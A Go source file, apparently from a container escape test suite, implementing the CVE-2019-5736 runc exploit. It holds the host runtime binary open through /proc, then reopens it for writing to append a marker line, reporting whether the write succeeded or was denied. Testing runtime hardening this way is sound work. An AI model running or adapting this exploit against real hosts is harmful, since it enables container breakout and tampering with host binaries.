package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// overwriteRuntime is the attack of CVE-2019-5736, for the escape tests:
// it waits for a process of another binary to appear in this PID
// namespace (the runtime, joining the container for an exec), holds that
// binary open through /proc/PID/exe, and once nothing executes it any
// more reopens it for writing through /proc/self/fd/N and appends a line.
// Against a runtime that executes itself from the host, that rewrites the
// host's runtime binary; against one that executes a sealed handle (a
// read-only overlay, a sealed memfd copy), the reopen fails. It prints "held TARGET" and then "wrote" or
// "denied: ERROR", and gives up after SECONDS.
func overwriteRuntime(args []string) int {
	if len(args) != 1 {
		fmt.Fprintln(os.Stderr, "usage: overwrite-runtime SECONDS")
		return 2
	}
	secs, err := strconv.Atoi(args[0])
	if err != nil || secs <= 0 {
		fmt.Fprintf(os.Stderr, "overwrite-runtime: %q is not a number of seconds\n", args[0])
		return 2
	}
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	self, _ := os.Readlink("/proc/self/exe")
	fd, target := -1, ""
	for fd < 0 && time.Now().Before(deadline) {
		exes, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range exes {
			if t, err := os.Readlink(exe); err == nil && t != self {
				if fd, err = unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
					target = t
					break
				}
				fd = -1
			}
		}
	}
	if fd < 0 {
		fmt.Println("denied: no process of another binary appeared")
		return 1
	}
	fmt.Printf("held %s\n", target)
	// While the runtime still executes the binary, a write gets ETXTBSY:
	// wait for it to finish.
	for {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Write(w, []byte("\n#overwritten from inside a container\n"))
			unix.Close(w)
			if err == nil {
				fmt.Println("wrote")
				return 0
			}
		}
		if !errors.Is(err, unix.ETXTBSY) || time.Now().After(deadline) {
			fmt.Printf("denied: %v\n", err)
			return 1
		}
		time.Sleep(10 * time.Millisecond)
	}
}
